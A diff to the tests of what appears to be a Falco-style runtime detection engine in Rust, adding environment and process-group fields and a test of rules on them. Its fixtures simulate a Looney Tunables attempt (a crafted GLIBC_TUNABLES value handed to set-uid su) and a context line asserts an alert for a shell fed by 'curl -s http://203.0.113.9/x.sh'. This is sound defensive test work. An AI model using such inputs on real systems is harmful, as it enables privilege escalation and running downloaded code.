@@ -92,6 +92,8 @@ fn snapshot(pid: u32, ppid: u64, comm: &str, exe: &str) -> OwnedEvent {
             stdin_ino: 0,
             stdout_type: 0,
             stdout_ino: 0,
+            env: Vec::new(),
+            pgid: 0,
         },
     )
 }
@@ -119,6 +121,8 @@ fn exec(ts: u64, pid: u32, ppid: u64, exe: &str, argv: &[&str]) -> OwnedEvent {
             stdin_ino: 0,
             stdout_type: 0,
             stdout_ino: 0,
+            env: Vec::new(),
+            pgid: 0,
         },
     )
 }
@@ -1277,5 +1281,76 @@ fn a_shell_fed_by_a_download_names_what_was_downloaded() {
     assert_eq!(
         alerts[0].output,
         "from curl (curl -s http://203.0.113.9/x.sh)"
+    );
+}
+
+/// `e` (an exec) started with environment `env` in process group `pgid`.
+fn with_env(mut e: OwnedEvent, env: &[&str], group: u64) -> OwnedEvent {
+    if let Body::Execve {
+        env: vars, pgid, ..
+    } = &mut e.body
+    {
+        *vars = env.iter().map(|v| v.as_bytes().to_vec()).collect();
+        *pgid = group;
+    }
+    e
+}
+
+#[test]
+fn the_environment_and_the_process_group_answer_falcos_fields() {
+    let caps = [capture(&[
+        cgroup(0, 1, "/user.slice"),
+        snapshot(100, 1, "bash", "/bin/bash"),
+        // Looney Tunables: a tunable string handed to a set-uid program.
+        with_env(
+            exec(10, 200, 100, "/usr/bin/su", &["su"]),
+            &["PATH=/usr/bin", "GLIBC_TUNABLES=glibc.tune=glibc.tune=AAAA"],
+            200,
+        ),
+        // A command a script ran: its group is the script's.
+        with_env(
+            exec(20, 300, 100, "/usr/bin/id", &["id"]),
+            &["HOME=/root"],
+            100,
+        ),
+        // Group unknown (an older capture): the leader test has no value.
+        with_env(exec(30, 400, 100, "/usr/bin/id", &["id"]), &[], 0),
+    ])];
+    let rules = [
+        rule(
+            "tunables",
+            "evt.type = execve and proc.env icontains GLIBC_TUNABLES",
+        ),
+        rule(
+            "value",
+            "evt.type = execve and proc.env[GLIBC_TUNABLES] startswith \"glibc.tune=\"",
+        ),
+        rule("joined", "evt.type = execve and proc.env = \"HOME=/root\""),
+        rule(
+            "unset_is_empty",
+            "evt.type = execve and proc.env[HOME] = \"\" and proc.pid = 200",
+        ),
+        rule(
+            "leader",
+            "evt.type = execve and proc.is_vpgid_leader = true",
+        ),
+        rule(
+            "follower",
+            "evt.type = execve and proc.is_vpgid_leader = false",
+        ),
+        rule("vpgid", "evt.type = execve and proc.vpgid = 100"),
+    ]
+    .concat();
+    assert_eq!(
+        fired(&caps, &rules),
+        [
+            "tunables@10",
+            "value@10",
+            "unset_is_empty@10",
+            "leader@10",
+            "joined@20",
+            "follower@20",
+            "vpgid@20",
+        ]
     );
 }
